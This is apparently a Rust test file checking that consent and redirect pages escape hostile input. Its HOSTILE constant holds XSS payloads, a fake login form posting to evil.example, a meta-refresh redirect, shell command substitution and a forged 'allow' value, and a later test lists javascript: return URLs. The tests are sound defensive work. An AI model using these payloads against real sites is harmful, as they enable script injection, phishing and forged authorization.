//! Text that other people chose stays text.

use pages::{Interstitial, Navigation, OpenApp};

use crate::html::{Tag, tags};
use crate::samples::{CLAUDE_CODE, CURSOR, ORDINARY, Words, consent, every_page, places};

/// What an attacker would put into each place, without spaces so that commands keep their words.
const HOSTILE: Words<'static> = Words {
    name: "\u{202E}\"'><img/src=x/onerror=alert(1)></title></style><script>alert(1)</script>\n\u{1b}[31m",
    title: "</title><svg/onload=alert(1)>&lt;{{7*7}}{%x%}",
    sentence: "</p></main><form/action=https://evil.example><input/name=password>",
    advice: "<!--<a/href=javascript:alert(1)>",
    key: "gw\"><b>'$(id)`id`;&&x",
    url: "https://notes.example.com/cb?x=\"><script>alert(1)</script>&'y=<b>",
    app_url: "cursor://x/\"><meta/http-equiv=refresh/content=0;url=https://evil.example>'",
    token: "\"><input/name=\"decision\"/value=\"allow\">'",
};

fn shape(tags: &[Tag]) -> Vec<String> {
    tags.iter().map(ToString::to_string).collect()
}

/// T-REG-15, T-CO-07, T-LOG-02: hostile text adds no element and no attribute to any page. The
/// pages have the same tags as on an ordinary day, in the same order.
#[test]
fn t_reg_15_hostile_text_changes_no_page_structure() {
    let ordinary = every_page(&ORDINARY);
    let hostile = every_page(&HOSTILE);
    assert_eq!(ordinary.len(), hostile.len());
    for ((name, ordinary), (_, hostile)) in ordinary.iter().zip(&hostile) {
        assert_eq!(shape(&tags(ordinary)), shape(&tags(hostile)), "{name}");
        assert!(!hostile.contains("<img") && !hostile.contains("<script"), "{name}");
    }
}

/// T-REG-15: a name that reorders what stands after it is isolated wherever it is shown.
#[test]
fn t_reg_15_a_clients_name_is_isolated_wherever_it_is_shown() {
    let places = places();
    let html = pages::consent(&consent(&HOSTILE, &places.web, &[]));
    let escaped = "\u{202E}&#34;&#39;&#62;&#60;img/src";
    assert!(html.contains(escaped));
    assert_eq!(html.matches(escaped).count(), html.matches(&format!("<bdi>{escaped}")).count());
}

/// The form's values arrive at the server as they were given.
#[test]
fn hidden_values_survive_the_page() {
    let places = places();
    let html = pages::consent(&consent(&HOSTILE, &places.web, &[]));
    for name in ["csrf", "txn"] {
        assert!(
            tags(&html)
                .iter()
                .any(|tag| tag.is("input", "name", name) && tag.is("input", "value", HOSTILE.token)),
            "{name}"
        );
    }
}

/// RU-6 once more, at the last moment: a return URL that runs code is never a link, and never
/// where the page goes by itself.
#[test]
fn a_return_url_that_runs_code_is_not_a_link() {
    let places = places();
    for url in ["javascript:alert(1)", "data:text/html,<b>", "JAVASCRIPT:x", " javascript:x", "x"] {
        let interstitial = pages::interstitial(&Interstitial {
            deployment: pages::Deployment { title: "t" },
            client: CURSOR,
            redirect: &places.web,
            what_happened: "w",
            return_url: url,
        });
        let open_app = pages::open_app(&OpenApp {
            deployment: pages::Deployment { title: "t" },
            client: CLAUDE_CODE,
            redirect: &places.app,
            return_url: url,
            navigation: Navigation::Automatic,
        });
        for html in [interstitial, open_app] {
            assert!(!tags(&html).iter().any(|tag| tag.get("href").is_some()), "{url}");
            assert!(!tags(&html).iter().any(|tag| tag.get("http-equiv").is_some()), "{url}");
        }
    }
}
